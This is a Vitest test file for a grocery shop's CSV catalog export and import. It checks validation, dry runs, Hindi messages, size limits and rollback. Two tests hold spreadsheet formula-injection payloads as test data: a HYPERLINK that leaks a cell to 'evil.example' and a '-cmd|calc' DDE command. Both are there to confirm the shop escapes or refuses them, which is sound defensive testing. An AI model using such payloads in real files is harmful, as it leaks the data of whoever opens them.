import { count, desc, eq, sql } from 'drizzle-orm';
import * as v from 'valibot';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import * as csvApi from '../../../contract/endpoints/shop-csv';
import { CSV_COLUMNS, CSV_MAX_BYTES, ImportCatalogResponseSchema, type ImportResult } from '../../../contract/shop-csv';
import { activityLog, products } from '../../db/schema';
import { signedInShopper } from '../../test/shopper';
import { signedInStaff, type TestStaff } from '../../test/staff';
import { describeStaffAccess } from '../../test/staff-access';
import { openTestShop, type TestShop } from '../../test/test-shop';
import { searchTermsOf } from '../shop-catalog/new-product';
import { csvLines, parseCsv } from './csv';

describeStaffAccess([
  { endpoint: csvApi.exportCatalog, roles: ['owner'] },
  { endpoint: csvApi.importCatalog, roles: ['owner'], query: () => ({ dryRun: 'true' }) },
]);

let shop: TestShop;
let owner: TestStaff;
beforeAll(async () => {
  shop = await openTestShop();
  owner = await signedInStaff(shop, 'owner', { name: 'Owner Om' });
});
afterAll(async () => {
  await shop.close();
});

const EXPORT = csvApi.exportCatalog.path;
const IMPORT = csvApi.importCatalog.path;

type Row = Record<(typeof CSV_COLUMNS)[number], string>;

async function exported(): Promise<{ text: string; rows: Row[] }> {
  const response = await owner.request('GET', EXPORT);
  expect(response.status).toBe(200);
  const bytes = new Uint8Array(await response.arrayBuffer());
  // The BOM is what tells Excel the file is UTF-8 (fetch's text() would take it off).
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder().decode(bytes);
  const [header, ...lines] = parseCsv(text);
  expect(header).toEqual([...CSV_COLUMNS]);
  const rows = lines.map(
    (cells) => Object.fromEntries(CSV_COLUMNS.map((column, at) => [column, cells[at] ?? ''])) as Row,
  );
  return { text, rows };
}

const fileOf = (rows: readonly Row[], columns: readonly string[] = CSV_COLUMNS) =>
  `\uFEFF${csvLines([columns, ...rows.map((row) => columns.map((column) => row[column as keyof Row] ?? ''))])}`;

function send(
  file: string,
  { dryRun = false, headers = {} }: { dryRun?: boolean; headers?: Record<string, string> } = {},
) {
  return owner.request('POST', `${IMPORT}?dryRun=${dryRun}`, file, { 'Content-Type': 'text/csv', ...headers });
}

async function imported(file: string, dryRun = false): Promise<ImportResult> {
  const response = await send(file, { dryRun });
  const body = await response.json();
  expect(response.status, JSON.stringify(body)).toBe(200);
  return v.parse(ImportCatalogResponseSchema, body).data;
}

async function refused(file: string, dryRun = false) {
  const response = await send(file, { dryRun });
  return {
    status: response.status,
    body: (await response.json()) as { message: string; errors?: Record<string, string> },
  };
}

const activityCount = async () => (await shop.deps.db.select({ n: count() }).from(activityLog))[0]?.n ?? 0;
const productCount = async () => (await shop.deps.db.select({ n: count() }).from(products))[0]?.n ?? 0;
const productById = async (id: number) => (await shop.deps.db.select().from(products).where(eq(products.id, id)))[0];

/** A new product's line: no id, a category of the shop. */
const newLine = (overrides: Partial<Row>): Row => ({
  id: '',
  name: 'Ghar ka Aam Achaar',
  name_hi: 'घर का आम अचार',
  brand: 'Sharma Foods',
  category: 'Groceries',
  pack_size: '400 g',
  barcode: '',
  price: '120',
  mrp: '150',
  stock: '12',
  available: 'true',
  hidden: 'false',
  low_stock_threshold: '3',
  ...overrides,
});

describe('the catalog exported as CSV', () => {
  it('is every product, hidden ones too, as an attachment in UTF-8 with a BOM, Hindi kept', async () => {
    const [first] = await shop.deps.db.select().from(products).orderBy(products.id).limit(1);
    if (!first) throw new Error('no products');
    await shop.deps.db.update(products).set({ nameHi: 'पारले-जी बिस्कुट', hidden: true }).where(eq(products.id, first.id));
    const response = await owner.request('GET', EXPORT);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="kirana-catalog-2026-11-21.csv"');
    const { rows } = await exported();
    expect(rows).toHaveLength(await productCount());
    expect(rows[0]).toMatchObject({ id: String(first.id), name_hi: 'पारले-जी बिस्कुट', hidden: 'true' });
    await shop.deps.db.update(products).set({ nameHi: null, hidden: false }).where(eq(products.id, first.id));
  });

  it('escapes a name a spreadsheet would run, such as =HYPERLINK(…), so it is shown as text', async () => {
    const [product] = await shop.deps.db.select().from(products).orderBy(desc(products.id)).limit(1);
    if (!product) throw new Error('no products');
    const attack = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    await shop.deps.db.update(products).set({ name: attack }).where(eq(products.id, product.id));
    try {
      const { text, rows } = await exported();
      expect(text).toContain(`${product.id},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`);
      expect(rows.at(-1)?.name).toBe(`'${attack}`);
      // Imported back untouched, the escaped cell is the name the shop holds: no change, no refusal.
      const again = await imported(fileOf(rows.slice(-1)), true);
      expect(again).toMatchObject({ errors: [], changes: [], products: 0 });
    } finally {
      await shop.deps.db.update(products).set({ name: product.name }).where(eq(products.id, product.id));
    }
  });
});

describe('the catalog imported from an edited CSV', () => {
  it('exported, edited, dry run, imported, imported again: every change shown, written once, then nothing', async () => {
    const { rows } = await exported();
    const [a, b] = rows;
    if (!a || !b) throw new Error('too few products');
    const edited = rows.map((row) => ({ ...row }));
    Object.assign(edited[0] as Row, { price: String(Number(a.mrp) - 1), stock: '0', available: 'FALSE' });
    Object.assign(edited[1] as Row, { name_hi: 'नया नाम', barcode: '8901063010123' });
    edited.push(newLine({ barcode: '8906012345677' }), newLine({ name: 'Nimbu Achaar', name_hi: '' }));
    const file = fileOf(edited);
    const activityBefore = await activityCount();
    const countBefore = await productCount();

    const dry = await imported(file, true);
    expect(dry).toMatchObject({ dryRun: true, applied: false, lines: rows.length + 2, products: 4, errors: [] });
    expect(dry.changes).toEqual([
      {
        line: 2,
        productId: Number(a.id),
        name: a.name,
        field: 'price',
        before: Number(a.price),
        after: Number(a.mrp) - 1,
      },
      { line: 2, productId: Number(a.id), name: a.name, field: 'stock', before: Number(a.stock), after: 0 },
      { line: 2, productId: Number(a.id), name: a.name, field: 'available', before: true, after: false },
      { line: 3, productId: Number(b.id), name: b.name, field: 'name_hi', before: null, after: 'नया नाम' },
      { line: 3, productId: Number(b.id), name: b.name, field: 'barcode', before: null, after: '8901063010123' },
    ]);
    expect(dry.added.map(({ line, productId, name }) => ({ line, productId, name }))).toEqual([
      { line: rows.length + 2, productId: null, name: 'Ghar ka Aam Achaar' },
      { line: rows.length + 3, productId: null, name: 'Nimbu Achaar' },
    ]);
    // The dry run wrote nothing.
    expect((await productById(Number(a.id)))?.price).toBe(Number(a.price));
    expect(await productCount()).toBe(countBefore);
    expect(await activityCount()).toBe(activityBefore);

    const done = await imported(file);
    expect(done).toMatchObject({ dryRun: false, applied: true, products: 4, errors: [] });
    expect(done.changes).toEqual(dry.changes);
    const [pickle, nimbu] = done.added;
    expect(pickle?.productId).toBeGreaterThan(0);
    expect(await productById(Number(a.id))).toMatchObject({ price: Number(a.mrp) - 1, stock: 0, available: false });
    expect(await productById(Number(b.id))).toMatchObject({ nameHi: 'नया नाम', barcode: '8901063010123' });
    expect((await productById(Number(b.id)))?.searchTerms).toEqual(expect.arrayContaining(searchTermsOf('नया नाम')));
    // Made as the editor makes a product: its Hindi name's words are search terms, its shelf the category's.
    expect(await productById(pickle?.productId ?? 0)).toMatchObject({
      name: 'Ghar ka Aam Achaar',
      nameHi: 'घर का आम अचार',
      barcode: '8906012345677',
      categoryId: 'Groceries',
      price: 120,
      mrp: 150,
      stock: 12,
      lowStockThreshold: 3,
      available: true,
      hidden: false,
    });
    expect((await productById(pickle?.productId ?? 0))?.searchTerms).toEqual(searchTermsOf('घर का आम अचार'));
    expect(await productById(nimbu?.productId ?? 0)).toMatchObject({
      name: 'Nimbu Achaar',
      nameHi: null,
      barcode: null,
    });
    // Shoppers see it at once: the read model has the new price and the new products.
    expect(shop.deps.catalog.product(Number(a.id))?.price).toBe(Number(a.mrp) - 1);
    expect(shop.deps.catalog.product(pickle?.productId ?? 0)?.name).toBe('Ghar ka Aam Achaar');
    // One entry in the activity log, by the owner, its changes summed up.
    const [entry] = await shop.deps.db.select().from(activityLog).orderBy(desc(activityLog.id)).limit(1);
    expect(entry).toMatchObject({
      staffName: 'Owner Om',
      action: 'catalog.imported',
      subject: 'CSV import: 4 products',
    });
    expect(entry?.after).toMatchObject({ changed: 2, added: 2, more: 0 });
    expect((entry?.after as { changes?: unknown[] } | null)?.changes).toHaveLength(5);

    // The same file again: the new lines are found by barcode, or by name, brand and pack size. Nothing changes.
    const countAfter = await productCount();
    const activityAfter = await activityCount();
    const again = await imported(file);
    expect(again).toMatchObject({ applied: true, products: 0, changes: [], added: [], errors: [] });
    expect(await productCount()).toBe(countAfter);
    expect(await activityCount()).toBe(activityAfter);
    // And the export of now, imported as it is, changes nothing either.
    expect(await imported(fileOf((await exported()).rows), true)).toMatchObject({ products: 0, errors: [] });
    // A new line given a barcode later is still the product it added: it gets the barcode, no second product.
    const later = await imported(fileOf([newLine({ name: 'Nimbu Achaar', name_hi: '', barcode: '8901063010147' })]));
    expect(later).toMatchObject({ products: 1, added: [] });
    expect(later.changes).toEqual([
      {
        line: 2,
        productId: nimbu?.productId,
        name: 'Nimbu Achaar',
        field: 'barcode',
        before: null,
        after: '8901063010147',
      },
    ]);
    expect(await productCount()).toBe(countAfter);
  });

  it('names each bad line by its spreadsheet row and reason, and writes nothing, dry run or not', async () => {
    const { text: before, rows } = await exported();
    const [a, b, c, d, e, f, g, h, i] = rows;
    if (!a || !b || !c || !d || !e || !f || !g || !h || !i) throw new Error('too few products');
    const bad: Row[] = [
      { ...a, price: '12' }, // fine on its own: nothing is written while another line is bad
      { ...b, id: '99999999' },
      { ...c, stock: '-4' },
      { ...d, price: String(Number(d.mrp) + 1) },
      { ...e, mrp: 'twelve' },
      { ...f, barcode: '8.90106E+12' },
      { ...g, category: 'Spaceships' },
      { ...h, name: '=HYPERLINK("http://evil.example","Click")' },
      { ...i, brand: '-cmd|calc' },
      { ...b, id: a.id, price: '11' },
      newLine({ barcode: '8901063010124' }),
      newLine({ price: '200' }),
    ];
    const file = fileOf(bad);
    const dry = await imported(file, true);
    expect(dry.errors).toEqual([
      { line: 3, column: 'id', reason: 'no product #99999999 in the shop (leave id empty for a new product)' },
      { line: 4, column: 'stock', reason: 'stock cannot be negative' },
      { line: 5, column: 'price', reason: `price ₹${Number(d.mrp) + 1} is above the MRP ₹${d.mrp}` },
      { line: 6, column: 'mrp', reason: 'mrp is not a number' },
      { line: 7, column: 'barcode', reason: expect.stringMatching(/^barcode must be an EAN-13/) },
      { line: 8, column: 'category', reason: expect.stringMatching(/^category must be one of the shop's categories/) },
      { line: 9, column: 'name', reason: expect.stringMatching(/^name holds a formula a spreadsheet would run/) },
      { line: 10, column: 'brand', reason: expect.stringMatching(/^brand holds a formula/) },
      { line: 11, column: 'id', reason: 'the same product as line 2' },
      { line: 12, column: 'barcode', reason: expect.stringMatching(/^barcode must be an EAN-13/) },
      { line: 13, column: 'price', reason: 'price ₹200 is above the MRP ₹150' },
    ]);
    expect(dry).toMatchObject({ changes: [], added: [], products: 0 });

    const activityBefore = await activityCount();
    const applied = await refused(file);
    expect(applied.status).toBe(400);
    expect(applied.body.message).toBe('Nothing was changed: 11 lines have mistakes.');
    expect(applied.body.errors?.['4']).toBe('stock cannot be negative');
    expect((await exported()).text).toBe(before);
    expect(await activityCount()).toBe(activityBefore);
  });

  it('refuses the same product twice, and a new line with a barcode another product has', async () => {
    const { rows } = await exported();
    const [a] = rows;
    if (!a) throw new Error('no products');
    await shop.deps.db
      .update(products)
      .set({ barcode: '8901063010130' })
      .where(eq(products.id, Number(a.id)));
    try {
      const dry = await imported(
        fileOf([newLine({ barcode: '8901063010130', price: '1' }), { ...a, barcode: '8901063010130', price: '2' }]),
        true,
      );
      expect(dry.errors).toEqual([{ line: 3, column: 'id', reason: 'the same product as line 2' }]);
      const taken = await imported(fileOf([{ ...(rows[1] as Row), barcode: '8901063010130' }]), true);
      expect(taken.errors).toEqual([{ line: 2, column: 'barcode', reason: `barcode is already product #${a.id}'s` }]);
    } finally {
      await shop.deps.db
        .update(products)
        .set({ barcode: null })
        .where(eq(products.id, Number(a.id)));
    }
  });

  it('refuses a header without the export’s columns, or with others, as one clear error', async () => {
    const { rows } = await exported();
    const missing = await refused(
      fileOf(
        rows.slice(0, 2),
        CSV_COLUMNS.filter((column) => column !== 'mrp'),
      ),
      true,
    );
    expect(missing).toEqual({
      status: 400,
      body: {
        success: false,
        message: 'The first row must be the header of the exported file (missing: mrp). Nothing was changed.',
      },
    });
    const unknown = await refused(fileOf(rows.slice(0, 2), [...CSV_COLUMNS, 'gst']));
    expect(unknown.body.message).toBe(
      'The first row must be the header of the exported file (not known: gst). Nothing was changed.',
    );
    expect((await refused('', true)).body.message).toMatch(/^The file is empty/);
    expect((await refused(`${CSV_COLUMNS.join(',')}\n"1,open`, true)).body.message).toBe(
      'Row 2: a quoted cell is not closed, or has text after its closing quote.',
    );
  });

  it('answers in Hindi when asked', async () => {
    const { rows } = await exported();
    const response = await send(fileOf([{ ...(rows[0] as Row), stock: '-1' }]), {
      dryRun: true,
      headers: { 'Accept-Language': 'hi' },
    });
    const { errors } = v.parse(ImportCatalogResponseSchema, await response.json()).data;
    expect(errors[0]?.reason).toBe('stock शून्य से कम नहीं हो सकता');
  });

  it('refuses a file over 20 MB with 413 before reading it all: by its Content-Length, or by counting', async () => {
    const tooBig = `${CSV_COLUMNS.join(',')}\n${'x'.repeat(CSV_MAX_BYTES + 1 - CSV_COLUMNS.join(',').length - 1)}`;
    expect(Buffer.byteLength(tooBig)).toBe(CSV_MAX_BYTES + 1);
    const counted = await refused(tooBig);
    expect(counted).toEqual({
      status: 413,
      body: { success: false, message: 'The file is larger than 20 MB: split it into smaller files.' },
    });
    const declared = await send('id', { headers: { 'Content-Length': String(CSV_MAX_BYTES + 1) } });
    expect(declared.status).toBe(413);
    // Only the owner's file gets that much room: anyone else is refused before a byte of it is read.
    const shopper = await signedInShopper(shop);
    const anonymous = await shopper.request('POST', IMPORT, tooBig, { 'Content-Type': 'text/csv' });
    expect(anonymous.status).toBe(401);
    // Any other body on this path has the API's usual 64 KB.
    const json = await owner.request('POST', IMPORT, { note: 'x'.repeat(70 * 1024) });
    expect(json.status).toBe(413);
    expect((await send('\xff\xfe', { headers: { 'Content-Type': 'text/plain' } })).status).toBe(415);
  });

  it('refuses a file that is not UTF-8, as Excel’s plain "CSV" saves Hindi', async () => {
    const latin1 = new Uint8Array([...new TextEncoder().encode(`${CSV_COLUMNS.join(',')}\n`), 0xe9, 0x0a]);
    const response = await shop.app.request(`${IMPORT}?dryRun=true`, {
      method: 'POST',
      headers: { Cookie: owner.cookie, 'Content-Type': 'text/csv' },
      body: latin1,
    });
    expect(response.status).toBe(400);
    expect(((await response.json()) as { message: string }).message).toMatch(/CSV UTF-8/);
  });

  it('writes nothing when the transaction fails midway: every product change and new product rolled back', async () => {
    const { text: before, rows } = await exported();
    const countBefore = await productCount();
    const edited = [{ ...(rows[0] as Row), stock: '77' }, newLine({ name: 'Rollback Papad', barcode: '' })];
    // The activity log is written last, after the products: refusing it fails the import after its product writes.
    await shop.deps.db.execute(sql`
      CREATE FUNCTION refuse_activity() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN RAISE EXCEPTION 'refused for the test'; END $$`);
    await shop.deps.db.execute(
      sql`CREATE TRIGGER refuse_activity BEFORE INSERT ON activity_log FOR EACH ROW EXECUTE FUNCTION refuse_activity()`,
    );
    const quiet = vi.spyOn(console, 'error').mockImplementation(() => {});
    try {
      expect((await send(fileOf(edited))).status).toBe(500);
    } finally {
      quiet.mockRestore();
      await shop.deps.db.execute(sql`DROP TRIGGER refuse_activity ON activity_log`);
      await shop.deps.db.execute(sql`DROP FUNCTION refuse_activity()`);
    }
    expect((await exported()).text).toBe(before);
    expect(await productCount()).toBe(countBefore);
    // With the log writable again the same file goes through.
    expect(await imported(fileOf(edited))).toMatchObject({ applied: true, products: 2 });
  });
});
